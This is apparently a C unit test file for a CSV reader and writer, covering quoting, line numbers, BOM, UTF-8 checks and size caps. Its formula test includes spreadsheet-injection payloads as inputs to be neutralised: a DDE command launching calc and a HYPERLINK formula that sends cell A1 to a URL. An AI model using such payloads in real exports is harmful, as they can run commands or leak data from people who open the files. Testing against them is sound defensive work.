/* test_csv.c - base/csv: the RFC 4180 reader (quoting, line numbers, CRLF,
 * BOM, errors, caps) and the field writer (quoting, round trip). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "base/alloc.h"
#include "base/buf.h"
#include "base/csv.h"
#include "base/err.h"

#include <stdio.h>
#include <string.h>

#define MAXF 8

struct rec {
	size_t line;
	size_t n;
	const char *f[MAXF];
};

/* Read all of in[0..len) with caps of 16 fields and 1024 bytes; it must give
 * exactly the records of want, then the end. */
static void expect_records(const char *in, size_t len, const struct rec *want, size_t nwant)
{
	struct cep_csv *c = cep_csv_new(in, len, 16, 1024);
	char **f;
	size_t n, line;

	assert_non_null(c);
	for (size_t r = 0; r < nwant; r++) {
		int rc = cep_csv_next(c, &f, &n, &line);

		if (rc != 1)
			fail_msg("record %zu: cep_csv_next returned %d (%s)", r + 1, rc, cep_csv_error(c));
		assert_int_equal(line, want[r].line);
		assert_int_equal(n, want[r].n);
		for (size_t i = 0; i < n; i++)
			assert_string_equal(f[i], want[r].f[i]);
	}
	assert_int_equal(cep_csv_next(c, &f, &n, &line), 0);
	assert_int_equal(cep_csv_next(c, &f, &n, &line), 0); /* the end stays the end */
	cep_csv_free(c);
}

#define EXPECT(in, ...)                                                                  \
	do {                                                                             \
		const struct rec want_[] = { __VA_ARGS__ };                              \
		expect_records((in), sizeof(in) - 1, want_, sizeof(want_) / sizeof(want_[0])); \
	} while (0)

/* Read in[0..len) until an error: it must be code, on line, after ok good records. */
static void expect_error(const char *in, size_t len, size_t max_fields, size_t max_bytes,
			 size_t ok, int code, size_t line)
{
	struct cep_csv *c = cep_csv_new(in, len, max_fields, max_bytes);
	char **f;
	size_t n, l = 0;
	int rc;

	assert_non_null(c);
	for (size_t r = 0; r < ok; r++)
		assert_int_equal(cep_csv_next(c, &f, &n, &l), 1);
	rc = cep_csv_next(c, &f, &n, &l);
	if (rc != code)
		fail_msg("expected %d, got %d for input \"%.*s\"", code, rc, (int)len, in);
	assert_int_equal(l, line);
	assert_true(strlen(cep_csv_error(c)) > 0);
	cep_csv_free(c);
}

#define EXPECT_ERROR(in, maxf, maxb, ok, code, line) \
	expect_error((in), sizeof(in) - 1, (maxf), (maxb), (ok), (code), (line))

static void test_simple_records(void **state)
{
	(void)state;
	EXPECT("a,b,c\n1,2,3\n", { 1, 3, { "a", "b", "c" } }, { 2, 3, { "1", "2", "3" } });
	EXPECT("x", { 1, 1, { "x" } });
	EXPECT(",,\n", { 1, 3, { "", "", "" } });
	EXPECT("\"\",\"\"\n", { 1, 2, { "", "" } });
	EXPECT(" spaced , kept ", { 1, 2, { " spaced ", " kept " } });
	EXPECT("名前,分野\n東京電力,電力\n", { 1, 2, { "名前", "分野" } }, { 2, 2, { "東京電力", "電力" } });
	EXPECT("ab東京cd,x\n", { 1, 2, { "ab東京cd", "x" } });
}

static void test_empty_input(void **state)
{
	struct cep_csv *c = cep_csv_new("", 0, 4, 16);
	char **f;
	size_t n, line;

	(void)state;
	assert_non_null(c);
	assert_int_equal(cep_csv_next(c, &f, &n, &line), 0);
	cep_csv_free(c);
	c = cep_csv_new("\xEF\xBB\xBF", 3, 4, 16); /* a BOM and nothing else */
	assert_non_null(c);
	assert_int_equal(cep_csv_next(c, &f, &n, &line), 0);
	cep_csv_free(c);
}

static void test_quoted_commas_and_quotes(void **state)
{
	(void)state;
	EXPECT("\"a,b\",c\n", { 1, 2, { "a,b", "c" } });
	EXPECT("\"say \"\"hi\"\"\",x\n", { 1, 2, { "say \"hi\"", "x" } });
	EXPECT("\"\"\"\"", { 1, 1, { "\"" } });
	EXPECT("\"東京, 大阪\",\"\"\"引用\"\"\"", { 1, 2, { "東京, 大阪", "\"引用\"" } });
}

static void test_newlines_in_quotes_keep_line_numbers(void **state)
{
	(void)state;
	EXPECT("h1,h2\n"
	       "\"line1\nline2\",x\n"
	       "next,y\n"
	       "\"a\r\nb\r\nc\",z\r\n"
	       "last,w",
	       { 1, 2, { "h1", "h2" } },
	       { 2, 2, { "line1\nline2", "x" } },
	       { 4, 2, { "next", "y" } },
	       { 5, 2, { "a\r\nb\r\nc", "z" } },
	       { 8, 2, { "last", "w" } });
	EXPECT("\"\n\n\n\"\nafter\n", { 1, 1, { "\n\n\n" } }, { 5, 1, { "after" } });
}

static void test_crlf(void **state)
{
	(void)state;
	EXPECT("a,b\r\nc,d\r\n", { 1, 2, { "a", "b" } }, { 2, 2, { "c", "d" } });
	EXPECT("a,b\r\nc,d", { 1, 2, { "a", "b" } }, { 2, 2, { "c", "d" } });
	EXPECT("\"q\"\r\n\"r\"\r\n", { 1, 1, { "q" } }, { 2, 1, { "r" } });
}

static void test_bom_skipped(void **state)
{
	(void)state;
	EXPECT("\xEF\xBB\xBFname,code\nx,y\n", { 1, 2, { "name", "code" } }, { 2, 2, { "x", "y" } });
	EXPECT("\xEF\xBB\xBF\"quoted\",b", { 1, 2, { "quoted", "b" } });
	/* Only at the very start. */
	EXPECT("a\n\xEF\xBB\xBF" "b\n", { 1, 1, { "a" } }, { 2, 1, { "\xEF\xBB\xBF" "b" } });
}

static void test_trailing_newline_is_not_a_record(void **state)
{
	(void)state;
	EXPECT("a,b\n", { 1, 2, { "a", "b" } });
	EXPECT("a,b\r\n", { 1, 2, { "a", "b" } });
	EXPECT("a,b", { 1, 2, { "a", "b" } });
}

static void test_blank_last_line_is_blank(void **state)
{
	const char in[] = "a,b\r\n\r\n";
	struct cep_csv *c = cep_csv_new(in, sizeof(in) - 1, 4, 16);
	char **f;
	size_t n, line;
	int rc;

	(void)state;
	assert_int_equal(cep_csv_next(c, &f, &n, &line), 1);
	assert_int_equal(line, 1);
	/* A blank line after the last record reads as nothing or as an empty
	 * record on line 2 (which importers skip), never as data or an error. */
	rc = cep_csv_next(c, &f, &n, &line);
	if (rc == 1) {
		assert_int_equal(line, 2);
		for (size_t i = 0; i < n; i++)
			assert_string_equal(f[i], "");
		rc = cep_csv_next(c, &f, &n, &line);
	}
	assert_int_equal(rc, 0);
	cep_csv_free(c);
}

static void test_unterminated_quote(void **state)
{
	(void)state;
	/* The error names the line where the quoted field starts. */
	EXPECT_ERROR("a,b\nc,\"unterminated\nmore\nlines", 16, 1024, 1, CEP_EPARSE, 2);
	EXPECT_ERROR("\"", 16, 1024, 0, CEP_EPARSE, 1);
	EXPECT_ERROR("ok\nok\nok\n\"x\"\"", 16, 1024, 3, CEP_EPARSE, 4);
}

static void test_text_after_closing_quote(void **state)
{
	(void)state;
	EXPECT_ERROR("\"a\"b,c\n", 16, 1024, 0, CEP_EPARSE, 1);
	EXPECT_ERROR("x,y\n\"a\" ,c\n", 16, 1024, 1, CEP_EPARSE, 2);
	/* A quote inside an unquoted field is refused too. */
	EXPECT_ERROR("x,y\nab\"c,d\n", 16, 1024, 1, CEP_EPARSE, 2);
}

static void test_invalid_utf8_and_nul(void **state)
{
	(void)state;
	EXPECT_ERROR("ok,ok\n\xff,x\n", 16, 1024, 1, CEP_EPARSE, 2);
	EXPECT_ERROR("ok\nok\n\"\xC0\xAF\"\n", 16, 1024, 2, CEP_EPARSE, 3);  /* overlong */
	EXPECT_ERROR("a,\xED\xA0\x80\n", 16, 1024, 0, CEP_EPARSE, 1);         /* surrogate */
	EXPECT_ERROR("a,\xE9\x87\n", 16, 1024, 0, CEP_EPARSE, 1);             /* truncated */
	EXPECT_ERROR("a\0b,c\n", 16, 1024, 0, CEP_EPARSE, 1);
	EXPECT_ERROR("x\n\"a\0b\",c\n", 16, 1024, 1, CEP_EPARSE, 2);
	/* a field of ASCII but for its last byte, or for a NUL at its end */
	EXPECT_ERROR("ok\nabcdef\xE9,x\n", 16, 1024, 1, CEP_EPARSE, 2);
	EXPECT_ERROR("ok\nx,abcdef\0\n", 16, 1024, 1, CEP_EPARSE, 2);
}

static void test_caps(void **state)
{
	const char three[] = "a,b,c\n";
	struct cep_csv *c;
	char **f;
	size_t n, line;

	(void)state;
	/* Field count: three fields fit a cap of 3, four do not. */
	c = cep_csv_new(three, sizeof(three) - 1, 3, 16);
	assert_int_equal(cep_csv_next(c, &f, &n, &line), 1);
	assert_int_equal(n, 3);
	cep_csv_free(c);
	EXPECT_ERROR("a,b,c,d\n", 3, 16, 0, CEP_ETOOBIG, 1);
	EXPECT_ERROR("a,b\n1,2\n1,2,3,4,5,6\n", 3, 16, 2, CEP_ETOOBIG, 3);
	EXPECT_ERROR(",,,\n", 3, 16, 0, CEP_ETOOBIG, 1);

	/* Field size in bytes: 8 fit a cap of 8, 9 do not, quoted or not. */
	c = cep_csv_new("12345678,\"abcdefgh\"", 19, 4, 8);
	assert_int_equal(cep_csv_next(c, &f, &n, &line), 1);
	assert_string_equal(f[0], "12345678");
	assert_string_equal(f[1], "abcdefgh");
	cep_csv_free(c);
	EXPECT_ERROR("123456789,x\n", 4, 8, 0, CEP_ETOOBIG, 1);
	EXPECT_ERROR("x\n\"abcdefghi\"\n", 4, 8, 1, CEP_ETOOBIG, 2);
	EXPECT_ERROR("x\n\"a\"\"b\"\"c\"\"d\"\"e\"\n", 4, 8, 1, CEP_ETOOBIG, 2); /* 9 after unquoting */
	EXPECT_ERROR("東京電力,x\n", 4, 8, 0, CEP_ETOOBIG, 1);  /* 12 bytes */
	/* Far beyond every cap: refused without reading it all into memory. */
	{
		size_t big = 1 << 20;
		char *in = cep_malloc(big);

		memset(in, 'x', big);
		c = cep_csv_new(in, big, 4, 1024);
		assert_int_equal(cep_csv_next(c, &f, &n, &line), CEP_ETOOBIG);
		cep_csv_free(c);
		in[0] = '"';
		c = cep_csv_new(in, big, 4, 1024);
		assert_int_equal(cep_csv_next(c, &f, &n, &line), CEP_ETOOBIG);
		cep_csv_free(c);
		cep_free(in);
	}
}

static void test_put_data_quoting(void **state)
{
	struct cep_buf b;

	(void)state;
	cep_buf_init(&b, 1024);
	assert_int_equal(cep_csv_put_data(&b, "plain"), 0);
	assert_int_equal(cep_buf_puts(&b, ","), 0);
	assert_int_equal(cep_csv_put_data(&b, "a,b"), 0);
	assert_int_equal(cep_buf_puts(&b, ","), 0);
	assert_int_equal(cep_csv_put_data(&b, "say \"hi\""), 0);
	assert_int_equal(cep_buf_puts(&b, ","), 0);
	assert_int_equal(cep_csv_put_data(&b, "two\nlines"), 0);
	assert_int_equal(cep_buf_puts(&b, ","), 0);
	assert_int_equal(cep_csv_put_data(&b, ""), 0);
	assert_int_equal(cep_buf_puts(&b, ","), 0);
	assert_int_equal(cep_csv_put_data(&b, "電力"), 0);
	assert_string_equal(b.data, "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",,電力");
	cep_buf_free(&b);

	/* The buffer's cap holds. */
	cep_buf_init(&b, 5);
	assert_int_equal(cep_csv_put_data(&b, "abcdef"), CEP_ETOOBIG);
	assert_int_equal(b.len, 0);
	assert_int_equal(cep_buf_puts(&b, "x,"), 0);
	assert_int_equal(cep_csv_put_data(&b, "a,b"), CEP_ETOOBIG); /* 5 bytes once quoted */
	assert_int_equal(b.len, 2);                                 /* all or nothing */
	assert_string_equal(b.data, "x,");
	cep_buf_free(&b);
}

static void test_put_data_round_trip(void **state)
{
	static const char *const values[] = {
		"\xEF\xBB\xBFstarts with U+FEFF", "plain", "with,comma", "with \"quotes\"", "\"",
		"\"\"", "multi\nline", "cr\r\nlf", "lone\rcr", "", " spaced ", "重要インフラ",
		",", "trailing,", "a\"b", "\t tab",
	};
	size_t nv = sizeof(values) / sizeof(values[0]);
	struct cep_buf b;
	struct cep_csv *c;
	char **f;
	size_t n, line;

	(void)state;
	/* All values in one record, then each value alone as a record. */
	cep_buf_init(&b, 1 << 16);
	for (size_t i = 0; i < nv; i++) {
		if (i)
			assert_int_equal(cep_buf_puts(&b, ","), 0);
		assert_int_equal(cep_csv_put_data(&b, values[i]), 0);
	}
	assert_int_equal(cep_buf_puts(&b, "\r\n"), 0);
	for (size_t i = 0; i < nv; i++) {
		assert_int_equal(cep_csv_put_data(&b, values[i]), 0);
		assert_int_equal(cep_buf_puts(&b, "\n"), 0);
	}

	c = cep_csv_new(b.data, b.len, 32, 1024);
	assert_int_equal(cep_csv_next(c, &f, &n, &line), 1);
	assert_int_equal(n, nv);
	for (size_t i = 0; i < nv; i++)
		assert_string_equal(f[i], values[i]);
	for (size_t i = 0; i < nv; i++) {
		assert_int_equal(cep_csv_next(c, &f, &n, &line), 1);
		assert_int_equal(n, 1);
		assert_string_equal(f[0], values[i]);
	}
	assert_int_equal(cep_csv_next(c, &f, &n, &line), 0);
	cep_csv_free(c);
	cep_buf_free(&b);
}

/* A report's text that a spreadsheet would run as a formula gets an
 * apostrophe in front; numbers and other text are written as they are. */
static void test_put_field_formulas(void **state)
{
	static const struct {
		const char *in, *out;
	} cases[] = {
		{ "=HYPERLINK(\"http://x/?\"&A1,\"見る\")", "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"見る\"\")\"" },
		{ "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0" },
		{ "-2+3", "'-2+3" },
		{ "@SUM(A1:A9)", "'@SUM(A1:A9)" },
		{ "\t=1", "'\t=1" },
		{ "\r=1", "\"'\r=1\"" },
		{ "=", "'=" },
		{ "-", "'-" },
		{ "+81-3-1234-5678", "'+81-3-1234-5678" },
		{ "-1.5", "-1.5" },     /* numbers stay numbers */
		{ "+42", "+42" },
		{ "-0.25e-3", "-0.25e-3" },
		{ "-.5", "-.5" },
		{ "-1e", "'-1e" },      /* not a number */
		{ "-.", "'-." },
		{ "a=b", "a=b" },       /* only a first character counts */
		{ "電力", "電力" },
		{ "", "" },
		{ "\xEF\xBB\xBF=x", "\"\xEF\xBB\xBF=x\"" }, /* a BOM first: quoted, as before */
		{ "'=x", "''=x" }, /* apostrophes of its own: one more, told apart */
		{ "''-x", "'''-x" },
		{ "'x", "'x" },
		{ "'", "'" },
		{ "'-1", "'-1" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct cep_buf b;

		cep_buf_init(&b, 1024);
		assert_int_equal(cep_csv_put_field(&b, cases[i].in), 0);
		assert_string_equal(b.data ? b.data : "", cases[i].out);
		cep_buf_free(&b);
	}
	/* read back, each text is the one written (the fields without quotes) */
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		if (cases[i].out[0] != '"')
			assert_string_equal(cep_csv_text(cases[i].out), cases[i].in);
	{ /* read back, the field is the text with its apostrophe */
		struct cep_buf b;
		struct cep_csv *c;
		char **f;
		size_t n, line;

		cep_buf_init(&b, 1024);
		assert_int_equal(cep_csv_put_field(&b, "=1,2"), 0);
		assert_int_equal(cep_buf_puts(&b, "\r\n"), 0);
		c = cep_csv_new(b.data, b.len, 4, 64);
		assert_non_null(c);
		assert_int_equal(cep_csv_next(c, &f, &n, &line), 1);
		assert_int_equal(n, 1);
		assert_string_equal(f[0], "'=1,2");
		assert_string_equal(cep_csv_text(f[0]), "=1,2");
		cep_csv_free(c);
		cep_buf_free(&b);
	}
	{ /* the cap holds, all or nothing */
		struct cep_buf b;

		cep_buf_init(&b, 4);
		assert_int_equal(cep_csv_put_field(&b, "=abc"), CEP_ETOOBIG);
		assert_int_equal(b.len, 0);
		cep_buf_free(&b);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_simple_records),
		cmocka_unit_test(test_empty_input),
		cmocka_unit_test(test_quoted_commas_and_quotes),
		cmocka_unit_test(test_newlines_in_quotes_keep_line_numbers),
		cmocka_unit_test(test_crlf),
		cmocka_unit_test(test_bom_skipped),
		cmocka_unit_test(test_trailing_newline_is_not_a_record),
		cmocka_unit_test(test_blank_last_line_is_blank),
		cmocka_unit_test(test_unterminated_quote),
		cmocka_unit_test(test_text_after_closing_quote),
		cmocka_unit_test(test_invalid_utf8_and_nul),
		cmocka_unit_test(test_caps),
		cmocka_unit_test(test_put_data_quoting),
		cmocka_unit_test(test_put_data_round_trip),
		cmocka_unit_test(test_put_field_formulas),
	};

	return cmocka_run_group_tests_name("csv", tests, NULL, NULL);
}
